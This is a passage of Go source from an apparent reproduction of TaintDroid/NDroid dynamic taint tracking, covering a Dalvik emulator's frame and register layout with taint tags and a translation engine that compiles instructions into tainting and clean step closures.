// regWide reads the 64-bit value in registers (i, i+1).
func (th *Thread) regWide(f *Frame, i int) uint64 {
	return uint64(th.reg(f, i)) | uint64(th.reg(f, i+1))<<32
}

// setRegWide writes a 64-bit value into registers (i, i+1).
func (th *Thread) setRegWide(f *Frame, i int, v uint64) {
	th.setReg(f, i, uint32(v))
	th.setReg(f, i+1, uint32(v>>32))
}
