package dvm

import (
	"repro/internal/dex"
	"repro/internal/taint"
)

// Frame is one interpreter frame. Register slots live in guest memory with
// TaintDroid's layout (Fig. 1): each register is an 8-byte slot — 4 value
// bytes followed by 4 taint-tag bytes — and a 16-byte StackSaveArea sits
// above the registers holding the caller's frame pointer.
type Frame struct {
	Method *dex.Method
	FP     uint32 // guest address of v0's value word
}

// saveAreaSize is the StackSaveArea footprint.
const saveAreaSize = 16

// RegAddr returns the guest address of register i's value word — the
// addresses NDroid's dvmInterpret hook writes taints to (Fig. 9's
// "t[44bf8c14] = 0x1602").
func (f *Frame) RegAddr(i int) uint32 { return f.FP + uint32(8*i) }

// TaintAddr returns the guest address of register i's taint tag.
func (f *Frame) TaintAddr(i int) uint32 { return f.FP + uint32(8*i) + 4 }

// Thread is a Dalvik thread: a guest stack region plus the interpreter
// save-state (return value and its taint, pending exception).
type Thread struct {
	VM   *VM
	Name string

	StackBase uint32
	StackTop  uint32
	cur       uint32

	Frames []*Frame

	// InterpSaveState (§II-B): the last invoke's return value and taint.
	RetVal   uint64
	RetTaint taint.Tag

	Exception *Object
}

// pushFrame allocates a frame for m and stores args (with taints interleaved)
// into the argument registers, exactly as TaintDroid stores parameters and
// their tags on the Dalvik stack.
func (th *Thread) pushFrame(m *dex.Method, args []uint32, taints []taint.Tag) *Frame {
	size := uint32(m.NumRegs*8) + saveAreaSize
	fp := th.cur - size
	if fp < th.StackBase {
		panic("dvm: thread stack overflow")
	}
	mem := th.VM.Mem
	// Zero the register slots.
	for i := 0; i < m.NumRegs; i++ {
		mem.Write32(fp+uint32(8*i), 0)
		mem.Write32(fp+uint32(8*i)+4, 0)
	}
	// Argument registers occupy the high end of the frame.
	first := m.NumRegs - m.InsSize()
	for i, v := range args {
		mem.Write32(fp+uint32(8*(first+i)), v)
		if i < len(taints) {
			mem.Write32(fp+uint32(8*(first+i))+4, uint32(taints[i]))
		}
	}
	// StackSaveArea: previous frame pointer and a marker.
	mem.Write32(fp+uint32(m.NumRegs*8), th.cur)
	mem.Write32(fp+uint32(m.NumRegs*8)+4, objHeaderMagic)
	th.cur = fp
	f := &Frame{Method: m, FP: fp}
	th.Frames = append(th.Frames, f)
	return f
}

// popFrame releases the top frame.
func (th *Thread) popFrame() {
	n := len(th.Frames)
	if n == 0 {
		return
	}
	f := th.Frames[n-1]
	th.cur = f.FP + uint32(f.Method.NumRegs*8) + saveAreaSize
	th.Frames = th.Frames[:n-1]
}

// CurrentFrame returns the innermost frame, if any.
func (th *Thread) CurrentFrame() *Frame {
	if len(th.Frames) == 0 {
		return nil
	}
	return th.Frames[len(th.Frames)-1]
}

// reg reads register i of frame f.
func (th *Thread) reg(f *Frame, i int) uint32 { return th.VM.Mem.Read32(f.RegAddr(i)) }

// setReg writes register i of frame f.
func (th *Thread) setReg(f *Frame, i int, v uint32) { th.VM.Mem.Write32(f.RegAddr(i), v) }

// regTaint reads register i's taint tag.
func (th *Thread) regTaint(f *Frame, i int) taint.Tag {
	return taint.Tag(th.VM.Mem.Read32(f.TaintAddr(i)))
}

// setRegTaint writes register i's taint tag.
func (th *Thread) setRegTaint(f *Frame, i int, t taint.Tag) {
	th.VM.Mem.Write32(f.TaintAddr(i), uint32(t))
}

// regWide reads the 64-bit value in registers (i, i+1).
func (th *Thread) regWide(f *Frame, i int) uint64 {
	return uint64(th.reg(f, i)) | uint64(th.reg(f, i+1))<<32
}

// setRegWide writes a 64-bit value into registers (i, i+1).
func (th *Thread) setRegWide(f *Frame, i int, v uint64) {
	th.setReg(f, i, uint32(v))
	th.setReg(f, i+1, uint32(v>>32))
}
