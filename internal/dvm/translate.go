package dvm

import (
	"encoding/binary"
	"fmt"
	"math"

	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/taint"
)

// This file is the DVM's method-granular translation engine, the Java-side
// mirror of internal/arm/translate.go. On first invocation a method's
// instruction stream is compiled into a slice of pre-resolved step closures
// in two variants:
//
//   - tainting: full TaintDroid propagation (tag clears and merges baked in);
//   - clean: the gate fast path — no taint reads or writes at all, valid
//     while the taintSeen latch is off (all Java-side taint state is provably
//     zero, see NoteTaint).
//
// The variant is selected once at frame entry from the same predicate the
// interpreter evaluated per instruction (GateJava && !taintSeen). The latch
// can only flip inside a call, so the runner re-checks it after every invoke
// step and bails from clean to tainting mid-method — the Java analog of the
// ARM engine's gateBail.
//
// Per-instruction JavaStepFn/hook checks and the two execution counters are
// hoisted out of the loop behind the translation epoch: installing a step
// function, registering a hook, or registering a class bumps vm.transEpoch,
// which invalidates every compiled method at its next dispatch and deopts
// running frames to the interpreter at their next post-call check. Counters
// are settled in bulk at frame exits.

// jstep executes one translated Dalvik instruction. Control transfers are
// communicated through the frame's scratch fields (tpc, tret/trt, thrown,
// terr) so steps allocate nothing.
type jstep func(vm *VM, th *Thread, f *Frame) jstepRes

// jstepRes is a step's control-flow outcome.
type jstepRes uint8

const (
	jsNext   jstepRes = iota // fall through to pc+1
	jsJump                   // continue at f.tpc
	jsCall                   // fall through, then run post-call checks (epoch deopt, gate bail)
	jsReturn                 // method returned f.tret with taint f.trt
	jsThrow                  // f.thrown is pending; search handlers at this pc
	jsErr                    // emulator fault f.terr
)

// compiledMethod is one translated method: both step variants plus the
// identity of the VM and epoch they were built under. The dex.Method.Compiled
// slot caches it; a mismatch on either field just retranslates.
type compiledMethod struct {
	vm    *VM
	epoch uint64
	taint []jstep
	clean []jstep
}

// compiledFor returns a current translation of m, compiling on first
// invocation and recompiling after an epoch bump.
func (vm *VM) compiledFor(m *dex.Method) *compiledMethod {
	if cm, ok := m.Compiled.(*compiledMethod); ok && cm.vm == vm && cm.epoch == vm.transEpoch {
		return cm
	}
	cm := vm.translateMethod(m)
	m.Compiled = cm
	vm.JavaTransMethods++
	return cm
}

func (vm *VM) translateMethod(m *dex.Method) *compiledMethod {
	cm := &compiledMethod{
		vm:    vm,
		epoch: vm.transEpoch,
		taint: make([]jstep, len(m.Insns)),
		clean: make([]jstep, len(m.Insns)),
	}
	for pc := range m.Insns {
		cm.taint[pc], cm.clean[pc] = vm.buildStep(m, pc, &m.Insns[pc])
	}
	return cm
}

// runTranslated executes f's method through its compiled form, dispatching
// the variant on the Java gate and settling the instruction counters in bulk.
func (vm *VM) runTranslated(th *Thread, f *Frame, cm *compiledMethod) (uint64, taint.Tag, *Object, error) {
	m := f.Method
	// A statically pinned method always runs the clean variant: the
	// pre-analysis proved no tainted value can enter this frame (no tainted
	// argument, return, or heap read in any execution), so the taintSeen
	// latch is irrelevant to it and neither the gate check nor the mid-frame
	// bail is paid. Pins only apply while the gate is on — the no-gate
	// reference configuration stays fully instrumented.
	pinned := vm.GateJava && vm.pinnedClean != nil && vm.pinnedClean[m]
	clean := pinned || (vm.GateJava && !vm.taintSeen)
	steps := cm.taint
	if clean {
		steps = cm.clean
		vm.JavaCleanFrames++
		if pinned {
			vm.JavaPinnedFrames++
		}
	} else {
		vm.JavaTaintFrames++
	}
	pc := 0
	executed := uint64(0)
	for {
		if pc < 0 || pc >= len(steps) {
			vm.JavaInsnCount += executed
			m.InsnCount += executed
			return 0, 0, nil, vm.faultf(fault.MalformedDex, m, "pc %d out of range", pc)
		}
		executed++
		if vm.JavaBudget != 0 && vm.JavaInsnCount+executed > vm.JavaBudget {
			vm.JavaInsnCount += executed
			m.InsnCount += executed
			return 0, 0, nil, vm.javaBudgetFault(m)
		}
		switch steps[pc](vm, th, f) {
		case jsNext:
			pc++
		case jsJump:
			pc = f.tpc
		case jsCall:
			// The invoke may have installed hooks/step functions (epoch) or
			// introduced the first taint (latch); both must be honored before
			// the next instruction.
			if vm.transEpoch != cm.epoch {
				vm.JavaDeopts++
				vm.JavaInsnCount += executed
				m.InsnCount += executed
				return vm.interpret(th, f, pc+1)
			}
			if clean && !pinned && vm.taintSeen {
				clean, steps = false, cm.taint
				vm.JavaGateBails++
			}
			pc++
		case jsReturn:
			vm.JavaInsnCount += executed
			m.InsnCount += executed
			return f.tret, f.trt, nil, nil
		case jsThrow:
			// A throwing invoke runs the same post-call discipline before the
			// handler (or the unwind) executes.
			if clean && !pinned && vm.taintSeen {
				clean, steps = false, cm.taint
				vm.JavaGateBails++
			}
			thrown := f.thrown
			f.thrown = nil
			handler, ok := findHandler(vm, m, pc, thrown)
			if !ok {
				vm.JavaInsnCount += executed
				m.InsnCount += executed
				return 0, 0, thrown, nil
			}
			th.Exception = thrown
			pc = handler
			if vm.transEpoch != cm.epoch {
				vm.JavaDeopts++
				vm.JavaInsnCount += executed
				m.InsnCount += executed
				return vm.interpret(th, f, pc)
			}
		case jsErr:
			vm.JavaInsnCount += executed
			m.InsnCount += executed
			err := f.terr
			f.terr = nil
			return 0, 0, nil, err
		}
	}
}

// errStep bakes a translate-time-known emulator fault.
func errStep(err error) jstep {
	return func(vm *VM, th *Thread, f *Frame) jstepRes {
		f.terr = err
		return jsErr
	}
}

// throwStep bakes a translate-time-known throw.
func throwStep(class, msg string) jstep {
	return func(vm *VM, th *Thread, f *Frame) jstepRes {
		f.thrown = vm.makeThrowable(th, class, msg)
		return jsThrow
	}
}

const (
	npeClass   = "Ljava/lang/NullPointerException;"
	aioobClass = "Ljava/lang/ArrayIndexOutOfBoundsException;"
	arithClass = "Ljava/lang/ArithmeticException;"
	rteClass   = "Ljava/lang/RuntimeException;"
)

// buildStep compiles one instruction into its (tainting, clean) step pair.
// Each case mirrors the corresponding interpreter arm in interp.go exactly —
// same values, same taint rules, same exception classes and messages — with
// operands and resolutions hoisted to translate time.
func (vm *VM) buildStep(m *dex.Method, pc int, insn *dex.Insn) (jstep, jstep) {
	A, B, C := insn.A, insn.B, insn.C

	switch insn.Op {
	case dex.Nop:
		s := func(vm *VM, th *Thread, f *Frame) jstepRes { return jsNext }
		return s, s

	case dex.Const:
		lit := uint32(insn.Lit)
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, lit)
			th.setRegTaint(f, A, 0)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, lit)
			return jsNext
		}
		return t, c
	case dex.ConstWide:
		lit := uint64(insn.Lit)
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, lit)
			th.setRegTaint(f, A, 0)
			th.setRegTaint(f, A+1, 0)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, lit)
			return jsNext
		}
		return t, c
	case dex.ConstString:
		// Interned lazily on first execution, not at translate time: eager
		// interning would reorder heap allocation relative to the
		// interpreter, and object addresses are observable in flow logs.
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, vm.internString(insn).Addr)
			th.setRegTaint(f, A, 0)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, vm.internString(insn).Addr)
			return jsNext
		}
		return t, c

	case dex.Move:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, th.reg(f, B))
			th.setRegTaint(f, A, th.regTaint(f, B))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, th.reg(f, B))
			return jsNext
		}
		return t, c
	case dex.MoveWide:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, th.regWide(f, B))
			th.setRegTaint(f, A, th.regTaint(f, B))
			th.setRegTaint(f, A+1, th.regTaint(f, B+1))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, th.regWide(f, B))
			return jsNext
		}
		return t, c
	case dex.MoveResult:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(th.RetVal))
			th.setRegTaint(f, A, th.RetTaint)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(th.RetVal))
			return jsNext
		}
		return t, c
	case dex.MoveResultWide:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, th.RetVal)
			th.setRegTaint(f, A, th.RetTaint)
			th.setRegTaint(f, A+1, th.RetTaint)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, th.RetVal)
			return jsNext
		}
		return t, c
	case dex.MoveException:
		noExc := vm.errorf("%s: move-exception with no pending exception", m.FullName())
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			if th.Exception == nil {
				f.terr = noExc
				return jsErr
			}
			th.setReg(f, A, th.Exception.Addr)
			th.setRegTaint(f, A, th.Exception.Taint)
			th.Exception = nil
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			if th.Exception == nil {
				f.terr = noExc
				return jsErr
			}
			th.setReg(f, A, th.Exception.Addr)
			th.Exception = nil
			return jsNext
		}
		return t, c

	case dex.ReturnVoid:
		s := func(vm *VM, th *Thread, f *Frame) jstepRes {
			f.tret, f.trt = 0, 0
			return jsReturn
		}
		return s, s
	case dex.Return:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			f.tret = uint64(th.reg(f, A))
			f.trt = th.regTaint(f, A)
			return jsReturn
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			f.tret, f.trt = uint64(th.reg(f, A)), 0
			return jsReturn
		}
		return t, c
	case dex.ReturnWide:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			f.tret = th.regWide(f, A)
			f.trt = th.regTaint(f, A) | th.regTaint(f, A+1)
			return jsReturn
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			f.tret, f.trt = th.regWide(f, A), 0
			return jsReturn
		}
		return t, c

	case dex.NewInstance:
		cls, ok := vm.classes[insn.ClassName]
		if !ok {
			// RegisterClass bumps the epoch, so a late registration
			// retranslates this method before the step could fire stale.
			e := errStep(vm.errorf("%s: unknown class %s", m.FullName(), insn.ClassName))
			return e, e
		}
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			o := vm.NewInstance(cls)
			th.setReg(f, A, o.Addr)
			th.setRegTaint(f, A, 0)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			o := vm.NewInstance(cls)
			th.setReg(f, A, o.Addr)
			return jsNext
		}
		return t, c
	case dex.NewArray:
		kind := insn.Str[0]
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			n := int(int32(th.reg(f, B)))
			if n < 0 {
				f.thrown = vm.makeThrowable(th, rteClass, "negative array size")
				return jsThrow
			}
			o := vm.NewArray(kind, n)
			th.setReg(f, A, o.Addr)
			th.setRegTaint(f, A, 0)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			n := int(int32(th.reg(f, B)))
			if n < 0 {
				f.thrown = vm.makeThrowable(th, rteClass, "negative array size")
				return jsThrow
			}
			o := vm.NewArray(kind, n)
			th.setReg(f, A, o.Addr)
			return jsNext
		}
		return t, c
	case dex.ArrayLength:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			arr, err := vm.arrayAt(m, th.reg(f, B))
			if err != nil {
				f.thrown = vm.makeThrowable(th, npeClass, err.Error())
				return jsThrow
			}
			th.setReg(f, A, uint32(arr.Len))
			th.setRegTaint(f, A, arr.Taint|th.regTaint(f, B))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			arr, err := vm.arrayAt(m, th.reg(f, B))
			if err != nil {
				f.thrown = vm.makeThrowable(th, npeClass, err.Error())
				return jsThrow
			}
			th.setReg(f, A, uint32(arr.Len))
			return jsNext
		}
		return t, c

	case dex.Aget, dex.AgetWide:
		wide := insn.Op == dex.AgetWide
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			arr, idx, res := boundsCheck(vm, th, f, m, B, C)
			if res != jsNext {
				return res
			}
			if wide {
				th.setRegWide(f, A, binary.LittleEndian.Uint64(arr.Data[idx*8:]))
				th.setRegTaint(f, A, arr.Taint)
				th.setRegTaint(f, A+1, arr.Taint)
			} else {
				th.setReg(f, A, arr.elem(idx))
				// TaintDroid keeps a single tag per array object.
				th.setRegTaint(f, A, arr.Taint)
			}
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			arr, idx, res := boundsCheck(vm, th, f, m, B, C)
			if res != jsNext {
				return res
			}
			if wide {
				th.setRegWide(f, A, binary.LittleEndian.Uint64(arr.Data[idx*8:]))
			} else {
				th.setReg(f, A, arr.elem(idx))
			}
			return jsNext
		}
		return t, c
	case dex.Aput, dex.AputWide:
		wide := insn.Op == dex.AputWide
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			arr, idx, res := boundsCheck(vm, th, f, m, B, C)
			if res != jsNext {
				return res
			}
			if wide {
				binary.LittleEndian.PutUint64(arr.Data[idx*8:], th.regWide(f, A))
				arr.Taint |= th.regTaint(f, A) | th.regTaint(f, A+1)
			} else {
				arr.setElem(idx, th.reg(f, A))
				arr.Taint |= th.regTaint(f, A)
			}
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			arr, idx, res := boundsCheck(vm, th, f, m, B, C)
			if res != jsNext {
				return res
			}
			if wide {
				binary.LittleEndian.PutUint64(arr.Data[idx*8:], th.regWide(f, A))
			} else {
				arr.setElem(idx, th.reg(f, A))
			}
			return jsNext
		}
		return t, c

	case dex.Iget, dex.IgetWide:
		wide := insn.Op == dex.IgetWide
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			o, fld, err := vm.instanceField(m, th.reg(f, B), insn)
			if err != nil {
				f.thrown = vm.makeThrowable(th, npeClass, err.Error())
				return jsThrow
			}
			if wide {
				v := uint64(o.Fields[fld.Index]) | uint64(o.Fields[fld.Index+1])<<32
				th.setRegWide(f, A, v)
				th.setRegTaint(f, A, o.FieldTaints[fld.Index])
				th.setRegTaint(f, A+1, o.FieldTaints[fld.Index+1])
			} else {
				th.setReg(f, A, o.Fields[fld.Index])
				th.setRegTaint(f, A, o.FieldTaints[fld.Index])
			}
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			o, fld, err := vm.instanceField(m, th.reg(f, B), insn)
			if err != nil {
				f.thrown = vm.makeThrowable(th, npeClass, err.Error())
				return jsThrow
			}
			if wide {
				v := uint64(o.Fields[fld.Index]) | uint64(o.Fields[fld.Index+1])<<32
				th.setRegWide(f, A, v)
			} else {
				th.setReg(f, A, o.Fields[fld.Index])
			}
			return jsNext
		}
		return t, c
	case dex.Iput, dex.IputWide:
		wide := insn.Op == dex.IputWide
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			o, fld, err := vm.instanceField(m, th.reg(f, B), insn)
			if err != nil {
				f.thrown = vm.makeThrowable(th, npeClass, err.Error())
				return jsThrow
			}
			if wide {
				v := th.regWide(f, A)
				o.Fields[fld.Index] = uint32(v)
				o.Fields[fld.Index+1] = uint32(v >> 32)
				o.FieldTaints[fld.Index] = th.regTaint(f, A)
				o.FieldTaints[fld.Index+1] = th.regTaint(f, A+1)
			} else {
				o.Fields[fld.Index] = th.reg(f, A)
				o.FieldTaints[fld.Index] = th.regTaint(f, A)
			}
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			o, fld, err := vm.instanceField(m, th.reg(f, B), insn)
			if err != nil {
				f.thrown = vm.makeThrowable(th, npeClass, err.Error())
				return jsThrow
			}
			if wide {
				v := th.regWide(f, A)
				o.Fields[fld.Index] = uint32(v)
				o.Fields[fld.Index+1] = uint32(v >> 32)
			} else {
				o.Fields[fld.Index] = th.reg(f, A)
			}
			return jsNext
		}
		return t, c

	case dex.Sget, dex.SgetWide:
		wide := insn.Op == dex.SgetWide
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			cls, fld, err := vm.staticField(insn)
			if err != nil {
				f.terr = err
				return jsErr
			}
			if wide {
				th.setReg(f, A, cls.StaticData[fld.Index])
				th.setReg(f, A+1, cls.StaticData[fld.Index+1])
				th.setRegTaint(f, A, taint.Tag(cls.StaticTaints[fld.Index]))
				th.setRegTaint(f, A+1, taint.Tag(cls.StaticTaints[fld.Index+1]))
			} else {
				th.setReg(f, A, cls.StaticData[fld.Index])
				th.setRegTaint(f, A, taint.Tag(cls.StaticTaints[fld.Index]))
			}
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			cls, fld, err := vm.staticField(insn)
			if err != nil {
				f.terr = err
				return jsErr
			}
			if wide {
				th.setReg(f, A, cls.StaticData[fld.Index])
				th.setReg(f, A+1, cls.StaticData[fld.Index+1])
			} else {
				th.setReg(f, A, cls.StaticData[fld.Index])
			}
			return jsNext
		}
		return t, c
	case dex.Sput, dex.SputWide:
		wide := insn.Op == dex.SputWide
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			cls, fld, err := vm.staticField(insn)
			if err != nil {
				f.terr = err
				return jsErr
			}
			if wide {
				cls.StaticData[fld.Index] = th.reg(f, A)
				cls.StaticData[fld.Index+1] = th.reg(f, A+1)
				cls.StaticTaints[fld.Index] = uint32(th.regTaint(f, A))
				cls.StaticTaints[fld.Index+1] = uint32(th.regTaint(f, A+1))
			} else {
				cls.StaticData[fld.Index] = th.reg(f, A)
				cls.StaticTaints[fld.Index] = uint32(th.regTaint(f, A))
			}
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			cls, fld, err := vm.staticField(insn)
			if err != nil {
				f.terr = err
				return jsErr
			}
			if wide {
				cls.StaticData[fld.Index] = th.reg(f, A)
				cls.StaticData[fld.Index+1] = th.reg(f, A+1)
			} else {
				cls.StaticData[fld.Index] = th.reg(f, A)
			}
			return jsNext
		}
		return t, c

	case dex.InvokeVirtual, dex.InvokeDirect, dex.InvokeStatic:
		return vm.buildInvoke(m, insn)

	case dex.Goto:
		tgt := insn.Tgt
		s := func(vm *VM, th *Thread, f *Frame) jstepRes {
			f.tpc = tgt
			return jsJump
		}
		return s, s
	case dex.IfTest:
		tgt, cmp := insn.Tgt, insn.Cmp
		s := func(vm *VM, th *Thread, f *Frame) jstepRes {
			if compareInt(cmp, int32(th.reg(f, A)), int32(th.reg(f, B))) {
				f.tpc = tgt
				return jsJump
			}
			return jsNext
		}
		return s, s
	case dex.IfTestZ:
		tgt, cmp := insn.Tgt, insn.Cmp
		s := func(vm *VM, th *Thread, f *Frame) jstepRes {
			if compareInt(cmp, int32(th.reg(f, A)), 0) {
				f.tpc = tgt
				return jsJump
			}
			return jsNext
		}
		return s, s

	case dex.BinOp:
		ar := insn.Ar
		divRem := ar == dex.Div || ar == dex.Rem
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := int32(th.reg(f, B))
			c := int32(th.reg(f, C))
			if divRem && c == 0 {
				f.thrown = vm.makeThrowable(th, arithClass, "divide by zero")
				return jsThrow
			}
			th.setReg(f, A, uint32(arithInt(ar, b, c)))
			// Table-driven TaintDroid rule: result = union of operand taints.
			th.setRegTaint(f, A, th.regTaint(f, B)|th.regTaint(f, C))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := int32(th.reg(f, B))
			c := int32(th.reg(f, C))
			if divRem && c == 0 {
				f.thrown = vm.makeThrowable(th, arithClass, "divide by zero")
				return jsThrow
			}
			th.setReg(f, A, uint32(arithInt(ar, b, c)))
			return jsNext
		}
		return t, c
	case dex.BinOpLit:
		ar := insn.Ar
		lit := int32(insn.Lit)
		if (ar == dex.Div || ar == dex.Rem) && lit == 0 {
			s := throwStep(arithClass, "divide by zero")
			return s, s
		}
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(arithInt(ar, int32(th.reg(f, B)), lit)))
			th.setRegTaint(f, A, th.regTaint(f, B))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(arithInt(ar, int32(th.reg(f, B)), lit)))
			return jsNext
		}
		return t, c
	case dex.BinOpWide:
		ar := insn.Ar
		divRem := ar == dex.Div || ar == dex.Rem
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := int64(th.regWide(f, B))
			c := int64(th.regWide(f, C))
			if divRem && c == 0 {
				f.thrown = vm.makeThrowable(th, arithClass, "divide by zero")
				return jsThrow
			}
			th.setRegWide(f, A, uint64(arithLong(ar, b, c)))
			t := th.regTaint(f, B) | th.regTaint(f, B+1) |
				th.regTaint(f, C) | th.regTaint(f, C+1)
			th.setRegTaint(f, A, t)
			th.setRegTaint(f, A+1, t)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := int64(th.regWide(f, B))
			c := int64(th.regWide(f, C))
			if divRem && c == 0 {
				f.thrown = vm.makeThrowable(th, arithClass, "divide by zero")
				return jsThrow
			}
			th.setRegWide(f, A, uint64(arithLong(ar, b, c)))
			return jsNext
		}
		return t, c
	case dex.BinOpFloat:
		ar := insn.Ar
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := math.Float32frombits(th.reg(f, B))
			c := math.Float32frombits(th.reg(f, C))
			th.setReg(f, A, math.Float32bits(arithFloat(ar, b, c)))
			th.setRegTaint(f, A, th.regTaint(f, B)|th.regTaint(f, C))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := math.Float32frombits(th.reg(f, B))
			c := math.Float32frombits(th.reg(f, C))
			th.setReg(f, A, math.Float32bits(arithFloat(ar, b, c)))
			return jsNext
		}
		return t, c
	case dex.BinOpDouble:
		ar := insn.Ar
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := math.Float64frombits(th.regWide(f, B))
			c := math.Float64frombits(th.regWide(f, C))
			th.setRegWide(f, A, math.Float64bits(arithDouble(ar, b, c)))
			t := th.regTaint(f, B) | th.regTaint(f, B+1) |
				th.regTaint(f, C) | th.regTaint(f, C+1)
			th.setRegTaint(f, A, t)
			th.setRegTaint(f, A+1, t)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := math.Float64frombits(th.regWide(f, B))
			c := math.Float64frombits(th.regWide(f, C))
			th.setRegWide(f, A, math.Float64bits(arithDouble(ar, b, c)))
			return jsNext
		}
		return t, c

	case dex.IntToFloat:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, math.Float32bits(float32(int32(th.reg(f, B)))))
			th.setRegTaint(f, A, th.regTaint(f, B))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, math.Float32bits(float32(int32(th.reg(f, B)))))
			return jsNext
		}
		return t, c
	case dex.FloatToInt:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(int32(math.Float32frombits(th.reg(f, B)))))
			th.setRegTaint(f, A, th.regTaint(f, B))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(int32(math.Float32frombits(th.reg(f, B)))))
			return jsNext
		}
		return t, c
	case dex.IntToDouble:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, math.Float64bits(float64(int32(th.reg(f, B)))))
			tt := th.regTaint(f, B)
			th.setRegTaint(f, A, tt)
			th.setRegTaint(f, A+1, tt)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, math.Float64bits(float64(int32(th.reg(f, B)))))
			return jsNext
		}
		return t, c
	case dex.DoubleToInt:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(int32(math.Float64frombits(th.regWide(f, B)))))
			th.setRegTaint(f, A, th.regTaint(f, B)|th.regTaint(f, B+1))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(int32(math.Float64frombits(th.regWide(f, B)))))
			return jsNext
		}
		return t, c
	case dex.IntToLong:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, uint64(int64(int32(th.reg(f, B)))))
			tt := th.regTaint(f, B)
			th.setRegTaint(f, A, tt)
			th.setRegTaint(f, A+1, tt)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setRegWide(f, A, uint64(int64(int32(th.reg(f, B)))))
			return jsNext
		}
		return t, c
	case dex.LongToInt:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(th.regWide(f, B)))
			th.setRegTaint(f, A, th.regTaint(f, B))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			th.setReg(f, A, uint32(th.regWide(f, B)))
			return jsNext
		}
		return t, c

	case dex.CmpFloat:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := math.Float32frombits(th.reg(f, B))
			c := math.Float32frombits(th.reg(f, C))
			th.setReg(f, A, uint32(cmpOrder(float64(b), float64(c))))
			th.setRegTaint(f, A, th.regTaint(f, B)|th.regTaint(f, C))
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := math.Float32frombits(th.reg(f, B))
			c := math.Float32frombits(th.reg(f, C))
			th.setReg(f, A, uint32(cmpOrder(float64(b), float64(c))))
			return jsNext
		}
		return t, c
	case dex.CmpDouble:
